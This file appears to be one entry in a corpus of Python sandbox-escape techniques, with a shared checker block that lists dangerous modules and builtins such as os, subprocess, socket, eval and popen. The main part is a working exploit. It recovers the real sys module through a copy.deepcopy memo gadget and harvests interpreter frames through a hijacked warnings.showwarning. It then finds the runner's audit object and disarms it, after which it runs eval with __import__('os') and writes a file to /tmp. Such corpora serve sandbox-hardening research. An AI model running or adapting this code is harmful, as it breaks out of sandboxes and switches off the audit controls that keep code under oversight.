# technique: 188's getattr gadget (copy.deepcopy of a method descriptor with a substituting memo) gives the real sys; sys._getframe is still trusted by module (the hook passes it whenever the current frame is typing/enum/collections/warnings code), and warnings._showwarnmsg calls warnings.showwarning from its own frame: showwarning = functools.partial(set.update, found, map(sys._getframe, range(8))) (all C, no Python frame pushed) collects real frames there; f_back/f_locals (unaudited, read through the gadget) lead to the runner's run() frame and its `audit`; audit.armed = False switches the whole audit hook off: the real eval runs a string and open() writes a file
# source: 188 + 185 (warnings.showwarning C callable in a trusted frame), the sys._getframe trust not narrowed to code objects as object.__getattr__'s was
# ---- escape check: the same block in every snippet of the corpus ----------
# It reads no refused attribute and holds no dunder string constant itself,
# so that a refusal is always the technique's, never the checker's.
def dn(s):
    return '_' * 2 + s + '_' * 2


DANGER = frozenset((
    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
    'json.tool', '__main__',
))
REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))


def what(o, depth=0):
    """What forbidden thing o is, or None."""
    try:
        t = type(o).__name__
        if t in ('frame', 'code'):
            return t + ' object'
        if t == 'module':
            n = o.__name__
            if n in DANGER or n.split('.')[0] in DANGER:
                return 'module ' + n
            return None
        if t == 'dict':
            if dn('import') in o and 'eval' in o and 'open' in o:
                try:
                    works = o['eval']('1+1') == 2
                except BaseException:
                    works = False
                return 'real builtins dict' + (' (eval works)' if works else '')
            if dn('builtins') in o:
                n = o['__name__'] if '__name__' in o else '?'
                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
            return None
        if t == 'builtin_function_or_method' and o.__name__ in REAL:
            n = o.__name__
            if n == 'eval':
                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
            return 'real builtin ' + n
        if t in ('_Helper', 'Quitter', '_Printer'):
            return 'site builtin ' + t
    except BaseException:
        return None
    return None


def check(label, o):
    w = what(o)
    if w:
        print('ESCAPED', label + ':', w)
        return True
    print('BLOCKED', label + ': reached only a', type(o).__name__)
    return False


def attempt(label, fn):
    try:
        return check(label, fn())
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        return False
# ---- end of the escape check ----------------------------------------------

import copy
import dataclasses
import functools
import warnings


def real_getattr(obj, name):
    memo = {id(str): obj, id('join'): name}
    return copy.deepcopy(str.join, memo)


g = real_getattr(dataclasses.fields, dn('globals'))
sysm = g['sys']
check('real sys through the gadget', sysm)
getframe = real_getattr(sysm, '_get' + 'frame')
found = set()
warnings.showwarning = functools.partial(set.update, found, map(getframe, range(8)))
try:
    warnings.warn('x')
except BaseException as e:
    pass  # set.update fails on the message once the map is drained
frames = list(found)
print('frames collected:', len(frames))
audit = None
for fr in frames:
    while fr is not None and audit is None:
        loc = real_getattr(fr, 'f_' + 'locals')
        if 'audit' in loc and 'code' in loc and 'raw' in loc:
            check('runner run() frame', fr)
            audit = loc['audit']
        fr = real_getattr(fr, 'f_' + 'back')
if audit is not None:
    audit.armed = False
    b = g[dn('builtins')]
    src = dn('import') + '("os").getcwd()'
    attempt('real eval of a string (real __import__, os.getcwd) after disarming',
            lambda: b['eval'](src, {dn('builtins'): b}) and b['eval'])
    def w():
        f = b['open']('/tmp/ts_189', 'w')
        f.write('x')
        f.close()
        return b['open']
    attempt('open for writing after disarming', w)
else:
    print('BLOCKED no runner frame')
